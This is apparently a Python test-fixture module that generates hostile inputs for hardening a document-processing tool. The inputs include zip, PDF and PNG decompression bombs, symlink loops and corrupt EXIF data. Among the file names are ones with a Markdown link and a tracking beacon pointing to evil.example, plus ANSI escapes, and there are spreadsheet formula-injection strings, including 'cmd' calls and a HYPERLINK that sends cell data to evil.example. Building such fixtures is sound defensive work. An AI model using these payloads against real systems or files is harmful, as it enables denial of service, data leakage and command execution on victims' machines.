"""Hostile inputs for the hardening tests (issue 13), made on the fly: nothing large is committed.

Each function writes one attack into a folder the test gives and returns its path, so a test
reads as "this input, that outcome". Run as a script to write them all into a folder and look
at them by hand:

    .venv/bin/python tests/hostile.py /tmp/hostile
"""

from __future__ import annotations

import io
import os
import sys
import zipfile
from pathlib import Path

#: A minimal valid PDF page (text layer too short to count), enough for a file to be probed.
TINY_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")

#: A file name that is a Markdown link and a remote image ("beacon") on a page that renders it.
MARKDOWN_NAME = "[Verify this document here](https://evil.example/verify) ![x](https://beacon.example/t.png).pdf"
#: File names that forge report lines or drive the terminal.
NEWLINE_NAME = "scan.pdf\n  ✔ Medical certificate                        OK\n"
ESCAPE_NAME = "\x1b[2J\x1b[31mpassport\x1b[0m.pdf"
#: Spreadsheet formulas a worker id, a name or a file problem can carry into summary.csv.
FORMULAS = ("=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB=1", "\r=1")


def _zip(path: Path, entries, compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as bundle:
        for info, data in entries:
            bundle.writestr(info, data)
    return path


def many_small_entries_bomb(folder: Path, entries: int = 4096, entry_bytes: int = 2**20) -> Path:
    """A zip bomb of many small entries: each 1 MiB of zeros, none over the old 1 MiB ratio floor."""
    path = folder / "small-entries-bomb.zip"
    zeros = b"\0" * entry_bytes
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        for i in range(entries):
            bundle.writestr(f"W{i % 8}/page-{i:05d}.pdf", zeros)
    return path


def many_tiny_entries_bomb(folder: Path, entries: int = 20_000, entry_bytes: int = 60 * 2**10) -> Path:
    """Entries just under the per-entry ratio floor: only the whole archive's ratio stops them."""
    path = folder / "tiny-entries-bomb.zip"
    zeros = b"\0" * entry_bytes
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        for i in range(entries):
            bundle.writestr(f"W{i % 8}/p{i:05d}.pdf", zeros)
    return path


def conflicting_entries_zip(folder: Path) -> Path:
    """Entries the file system cannot hold as named, and a duplicate, among good ones.

    ``W1/x`` then ``W1/x/y.pdf`` (a file where a folder is needed), the reverse, a 300-byte
    name, a path 2,100 folders deep, and two entries named ``W2/same.pdf``.
    """
    path = folder / "conflicts.zip"
    entries = [("W1/good.pdf", TINY_PDF), ("W1/x", b"a file named x"), ("W1/x/y.pdf", TINY_PDF),
               ("W3/dir/z.pdf", TINY_PDF), ("W3/dir", b"a file where a folder is"),
               ("W1/" + "n" * 300 + ".pdf", TINY_PDF), ("W1/" + "d/" * 2100 + "deep.pdf", TINY_PDF),
               ("W2/same.pdf", TINY_PDF), ("W2/same.pdf", b"%PDF-1.4 the second one"), ("W2/other.pdf", TINY_PDF)]
    import warnings

    with warnings.catch_warnings():  # zipfile warns about the duplicate name: that is the point
        warnings.simplefilter("ignore", UserWarning)
        return _zip(path, entries)


def non_utf8_folder(folder: Path) -> Path:
    """A folder holding a PDF whose name is Latin-1 bytes, not UTF-8 (an old Windows share)."""
    root = folder / "non-utf8"
    root.mkdir()
    name = b"attestation-m\xe9dicale.pdf"
    with open(os.path.join(os.fsencode(root), name), "wb") as handle:
        handle.write(TINY_PDF)
    return root


def non_utf8_bulk_folder(folder: Path) -> Path:
    """A bulk input whose worker folder and file names are Latin-1 bytes."""
    root = folder / "bulk-non-utf8"
    worker = os.path.join(os.fsencode(root), b"Jos\xe9")
    os.makedirs(worker)
    with open(os.path.join(worker, b"passeport-\xe9t\xe9.pdf"), "wb") as handle:
        handle.write(TINY_PDF)
    return root


def symlink_loop_folder(folder: Path) -> Path:
    """A folder with a good file, a link to nothing and two links to each other (a loop)."""
    root = folder / "links"
    root.mkdir()
    (root / "good.pdf").write_bytes(TINY_PDF)
    (root / "dangling.pdf").symlink_to(root / "gone.pdf")
    (root / "loop-a.pdf").symlink_to(root / "loop-b.pdf")
    (root / "loop-b.pdf").symlink_to(root / "loop-a.pdf")
    return root


def corrupt_exif_jpeg(folder: Path, name: str = "corrupt-exif.jpg") -> Path:
    """A JPEG whose EXIF block points past its end: Pillow warns "Truncated File Read", with
    the path of its own source file, when the rotation is read."""
    import struct

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("L", (600, 400), 255).save(buffer, format="JPEG")
    data = buffer.getvalue()
    # A TIFF header and one IFD entry: ImageDescription, 200 ASCII bytes at offset 5000 (past the end).
    tiff = (b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 1) + struct.pack("<HHII", 0x010E, 2, 200, 5000)
            + struct.pack("<I", 0))
    payload = b"Exif\x00\x00" + tiff
    segment = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    path = folder / name
    path.write_bytes(data[:2] + segment + data[2:])
    return path


def content_stream_bomb(folder: Path, megabytes: float = 32, name: str = "bomb.pdf") -> Path:
    """A one-page PDF whose small compressed content stream expands to `megabytes` of text
    operators (item 1: 18 KB that pdfminer parsed for 132 s at 6.9 GB)."""
    import zlib

    ops = b"BT /F1 12 Tf 72 720 Td (A) Tj ET\n" * int(megabytes * 2**20 // 33)
    compressed = zlib.compress(ops, 9)
    head = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<>>>>endobj\n")
    path = folder / name
    path.write_bytes(head + b"4 0 obj<</Length " + str(len(compressed)).encode() + b"/Filter/FlateDecode>>stream\n"
                     + compressed + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
    return path


def huge_page_pdf(folder: Path, name: str = "huge-page.pdf") -> Path:
    """A one-page PDF whose page is 200 inches square: 60,000 pixels a side if rendered at 300 dpi."""
    path = folder / name
    path.write_bytes(TINY_PDF.replace(b"/MediaBox[0 0 200 200]", b"/MediaBox[0 0 14400 14400]"))
    return path


def many_pages_pdf(folder: Path, pages: int = 2000, name: str = "many-pages.pdf") -> Path:
    """A PDF of `pages` empty pages in a few kilobytes."""
    kids = b" ".join(f"{3 + i} 0 R".encode() for i in range(pages))
    body = [b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
            b"2 0 obj<</Type/Pages/Kids[" + kids + b"]/Count " + str(pages).encode() + b">>endobj\n"]
    body += [f"{3 + i} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n".encode() for i in range(pages)]
    path = folder / name
    path.write_bytes(b"".join(body) + b"trailer<</Root 1 0 R>>\n%%EOF\n")
    return path


def pixel_bomb_png(folder: Path, side: int = 30_000, name: str = "pixel-bomb.png") -> Path:
    """A PNG that declares `side` × `side` pixels (2.7 GB decoded at 30,000) in a few hundred KB."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\x00" * side  # filter byte + grey pixels
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    path = folder / name
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return path


def main(argv: list[str]) -> int:
    target = Path(argv[1] if len(argv) > 1 else "hostile-inputs")
    target.mkdir(parents=True, exist_ok=True)
    for make in (many_small_entries_bomb, conflicting_entries_zip, non_utf8_folder, symlink_loop_folder,
                 content_stream_bomb, huge_page_pdf, many_pages_pdf, pixel_bomb_png):
        print(make(target))
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main(sys.argv))
